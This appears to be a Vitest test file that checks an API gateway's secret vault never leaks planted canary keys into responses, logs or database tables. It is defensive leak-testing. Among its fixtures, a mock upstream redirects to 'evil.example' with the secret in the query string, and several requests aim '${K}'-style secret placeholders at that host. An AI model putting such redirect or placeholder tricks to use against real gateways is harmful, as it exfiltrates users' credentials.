/** Canary values in every scope, everything done with them, then looked for everywhere (faults K2, K4; "No secret anywhere"). */
import { gzipSync } from 'node:zlib';
import { sql } from 'kysely';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Answer } from '../support/http-server.ts';
import { startGatewayStage, type GatewayStage, type TestApp } from '../api/gateway/stage.ts';

const canaries = {
  environment: 'canary/of+the environment=1',
  platform: 'canary/of+the platform=2',
  person: 'canary/of+the person="3"',
  app: 'canary/of+the app\\4',
  replaced: 'canary/of+before it was replaced=5',
};
const forms = Object.values(canaries).flatMap((value) => [
  value,
  encodeURIComponent(value),
  new URLSearchParams({ v: value }).toString().slice(2),
  Buffer.from(value).toString('base64').replace(/=+$/, ''),
  Buffer.from(value).toString('base64url'),
  Buffer.from(value).toString('hex'),
  JSON.stringify(value).slice(1, -1),
]);
const foundIn = (text: string): string[] => forms.filter((form) => text.includes(form));

let stage: GatewayStage;
let app: TestApp;
let ann: { authorization: string; userId: string };
let root: { authorization: string; userId: string };
const answers: Answer[] = [];

beforeAll(async () => {
  stage = await startGatewayStage({ env: { OPENWEATHER_API_KEY: canaries.environment } });
  [ann, root] = [await stage.person('ann'), await stage.person('root', 'operator')];
  app = await stage.addApp(ann, {
    services: [{ service: 'by_query', methods: ['GET'], endpoints: ['/echo'] }],
    hosts: [stage.upstream.host],
  });
});
afterAll(() => stage.close());

const keep = async (answer: Promise<Answer>): Promise<Answer> => {
  answers.push(await answer);
  return answer;
};

test('everything is done with them', async () => {
  const add = (person: { authorization: string }, key: object) => keep(stage.addKey(person, { name: 'K', ...key }));
  await add(root, { scope: 'platform', value: canaries.platform });
  const { body } = await add(ann, { value: canaries.replaced });
  await keep(
    stage.call({
      method: 'POST',
      path: `/api/vault/keys/${(body as { id: number }).id}/rotate/`,
      headers: ann,
      body: { value: canaries.person },
    }),
  );
  await add(ann, { name: 'A', scope: 'app', app_id: app.id, value: canaries.app });
  await add(ann, { value: canaries.person }); // there is one
  await add(ann, { name: 'bad name', value: canaries.person });
  await add(ann, { name: 'B', value: `${canaries.person}\n` + 'x'.repeat(9_000) });
  await stage.addService(ann, { name: 'by_query', auth_type: 'query_param', auth_config: { param: 'k' }, key_name: 'K' });
  await stage.addService(ann, { name: 'by_basic', auth_type: 'basic', auth_config: { username: 'me' }, key_name: 'A' });

  const { upstream } = stage;
  upstream.on('/a-byte-a-time', ({ headers }, res) => {
    res.writeHead(200, { 'Content-Type': 'text/plain', 'X-Said-Back': headers['x-k'] });
    for (const byte of Buffer.from(`you sent ${String(headers['x-k'])} and ${encodeURIComponent(String(headers['x-k']))}.`))
      res.write(Buffer.from([byte]));
    res.end();
  });
  upstream.on(
    '/packed',
    (seen, res) =>
      void res.writeHead(500, { 'Content-Type': 'text/plain', 'Content-Encoding': 'gzip' }).end(gzipSync(JSON.stringify(seen))),
  );
  upstream.on('/in-base64', ({ headers }, res) => void res.writeHead(200).end(Buffer.from(String(headers['x-k'])).toString('base64')));
  upstream.on(
    '/leads-on',
    ({ headers }, res) => void res.writeHead(302, { Location: `/echo?k=${encodeURIComponent(String(headers['x-k']))}` }).end(),
  );
  upstream.on(
    '/leads-out',
    ({ headers }, res) =>
      void res.writeHead(302, { Location: `https://evil.example/?k=${encodeURIComponent(String(headers['x-k']))}` }).end(),
  );
  const at = (path: string) => `${upstream.url}${path}`;
  for (const name of ['K', 'A', 'OPENWEATHER_API_KEY', 'NONE']) {
    const headers = { 'x-k': `\${${name}}` };
    for (const path of [
      '/echo',
      '/a-byte-a-time',
      '/packed',
      '/in-base64',
      '/leads-on',
      '/leads-out',
      '/status?code=401',
      '/reset',
      '/truncated',
      '/gzip',
      '/nowhere',
    ])
      await keep(stage.asOwner(app, { url: at(path), headers }));
    await keep(stage.asOwner(app, { url: at(`/echo?q=\${${name}}`), params: { p: `\${${name}}` } }));
    await keep(stage.asOwner(app, { url: at(`/echo/\${${name}}`) }));
    await keep(stage.asOwner(app, { url: at('/echo'), method: 'POST', body: { deep: [{ k: `\${${name}}` }] } }));
    await keep(stage.asOwner(app, { url: at('/echo'), headers, transform: { response: 'headers' } }));
    await keep(stage.asOwner(app, { url: at('/echo'), headers, transform: { response: '$error("x" & $string(headers))' } }));
    await keep(stage.asOwner(app, { url: 'https://evil.example/', headers }));
    await keep(stage.asApp(app, { url: at('/echo'), headers }));
  }
  for (const service of ['by_query', 'by_basic', 'openweather']) {
    await keep(stage.asOwner(app, { service, endpoint: '/echo' }));
    await keep(stage.asApp(app, { service, endpoint: '/echo' }));
  }
  for (const path of [
    '/api/vault/keys/',
    '/api/services/',
    '/api/gateway/requests/',
    '/api/gateway/requests/figures/',
    '/api/account/',
    '/api/openapi.json',
    '/readyz',
    '/metrics',
  ])
    for (const person of [ann, root]) await keep(stage.call({ path, headers: person }));
  await keep(stage.call({ path: `/api/projects/${app.id}/access/`, headers: ann }));
});

test('they did go out', () => {
  const sent = JSON.stringify(stage.upstream.seen);
  for (const scope of ['person', 'app'] as const) expect(sent).toContain(JSON.stringify(canaries[scope]).slice(1, -1));
  expect(answers.length).toBeGreaterThan(80);
});

test('no answer holds one', () => {
  for (const { status, text, headers } of answers) expect(foundIn(`${status} ${text} ${JSON.stringify(headers)}`)).toEqual([]);
});

test('no log holds one', () => {
  expect(stage.logged.flatMap(foundIn)).toEqual([]);
});

test('no column of any table holds one', async () => {
  await stage.audit(50);
  const { system } = stage.databases;
  const { rows } = await sql<{ name: string }>`select relname as name from pg_class
    where relnamespace = 'public'::regnamespace and relkind in ('r', 'p') and has_table_privilege(oid, 'select')`.execute(system);
  expect(rows.map(({ name }) => name)).toEqual(expect.arrayContaining(['api_keys', 'gateway_requests', 'events']));
  for (const { name } of rows) {
    const table = await sql<{ line: string }>`select row_to_json(t)::text as line from ${sql.table(name)} t`.execute(system);
    for (const { line } of table.rows) expect({ name, found: foundIn(line) }).toEqual({ name, found: [] });
  }
});
